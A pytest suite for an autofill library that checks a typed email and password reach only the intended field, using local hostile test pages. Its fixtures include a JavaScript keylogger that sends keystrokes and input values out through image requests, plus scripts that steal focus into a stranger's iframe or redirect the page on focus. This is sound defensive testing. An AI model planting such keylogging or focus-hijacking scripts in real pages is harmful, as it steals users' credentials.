"""What is typed goes into the element that was found, or nowhere: nothing of it reaches another box, frame or site."""

import pytest
from playwright.sync_api import Page
from pydantic import SecretStr

from autofill.forms import Field, fill
from tests.hostile.conftest import Site

_MAIL, _PASSWORD = "li.si@example.com", "hunter2-S3cret!"
_FIELDS = (
    Field[None]("email", lambda _: _MAIL),
    Field[None]("new-password", lambda _: SecretStr(_PASSWORD)),
)
_FORM = """<form method=post action=/sent>
<p><label>电子邮箱 <input id=mail></label></p><p><label>密码 <input id=pass type=password></label></p></form>"""
_LISTENS = """<input id=spy autofocus><script>
  const tell = (what) => new Image().src = '/heard?' + what;
  addEventListener('keydown', ({key}) => tell('key=' + key), true);
  spy.addEventListener('input', () => tell('text=' + spy.value));
</script>"""
_AT_FOCUS = (
    "<script>for (const one of [mail, pass]) one.addEventListener('focus', () => {act}, {{once: true}})</script>"
)
_THIEVES = {
    "a frame of a stranger takes the focus every 10 ms": "<script>const box = document.createElement('iframe');"
    "box.src = 'STRANGER/listens'; document.body.append(box); setInterval(() => box.focus(), 10)</script>",
    "a stranger's frame takes the focus itself": "<iframe src='STRANGER/grabs'></iframe>",
    "the focus is given to a stranger's frame": "<iframe id=box src='STRANGER/listens'></iframe>"
    + _AT_FOCUS.format(act="box.focus()"),
    "the focus is given to another box of the page": "<input id=other>" + _AT_FOCUS.format(act="other.focus()"),
    "the focus goes to another box every 5 ms": "<input id=other><script>setInterval(() => other.focus(), 5)</script>",
    "the box is taken away when it has the focus": _AT_FOCUS.format(act="one.remove()"),
    "the focus opens a stranger's page": _AT_FOCUS.format(act="location.href = 'STRANGER/listens'"),
    "the page goes to a stranger when it is typed in": "<script>"
    "addEventListener('input', () => (location.href = 'STRANGER/listens'), {once: true})</script>",
    "the box is replaced by a twin at the focus": _AT_FOCUS.format(act="one.replaceWith(one.cloneNode())"),
}


@pytest.mark.parametrize("thief", _THIEVES)
def test_nothing_is_typed_where_it_does_not_belong(page: Page, portal: Site, stranger: Site, thief: str) -> None:
    stranger.pages |= {
        "/listens": _LISTENS,
        "/grabs": _LISTENS + "<script>setInterval(() => { window.focus(); spy.focus() }, 10)</script>",
    }
    portal.pages["/"] = _FORM + _THIEVES[thief].replace("STRANGER", stranger.address)
    page.goto(portal.address)

    report = fill(page, _FIELDS, None, patience_s=1)

    assert stranger.got(_MAIL, _PASSWORD) == []
    if (other := page.locator("#other")).count():
        assert other.input_value() == ""
    if page.url.startswith(portal.address):
        assert {held.concept for held in report.held} == {
            concept
            for concept, box, value in (("email", "#mail", _MAIL), ("new-password", "#pass", _PASSWORD))
            if page.locator(box).count() and page.locator(box).input_value() == value
        }


def test_a_secret_is_not_typed_by_keys_beside_a_strangers_frame(page: Page, portal: Site, stranger: Site) -> None:
    """The page drops what it was not typed key by key."""
    stranger.pages["/listens"] = _LISTENS
    counts = "let keys = 0; pass.onkeydown = () => (keys += 1); pass.oninput = () => { if (!keys) pass.value = ''; }"
    portal.pages["/"] = f"{_FORM}<iframe src='{stranger.address}/listens'></iframe><script>{counts}</script>"
    page.goto(portal.address)

    report = fill(page, _FIELDS[1:], None, patience_s=1)

    assert [one.concept for one in report.refusals] == ["new-password"]
    assert stranger.got(_PASSWORD) == []


def test_a_secret_is_typed_by_keys_where_a_page_counts_them(page: Page, portal: Site) -> None:
    counts = "let keys = 0; pass.onkeydown = () => (keys += 1); pass.oninput = () => { if (!keys) pass.value = ''; }"
    portal.pages["/"] = f"{_FORM}<script>{counts}</script>"
    page.goto(portal.address)

    report = fill(page, _FIELDS[1:], None, patience_s=1)

    assert report.ok
    assert page.locator("#pass").input_value() == _PASSWORD
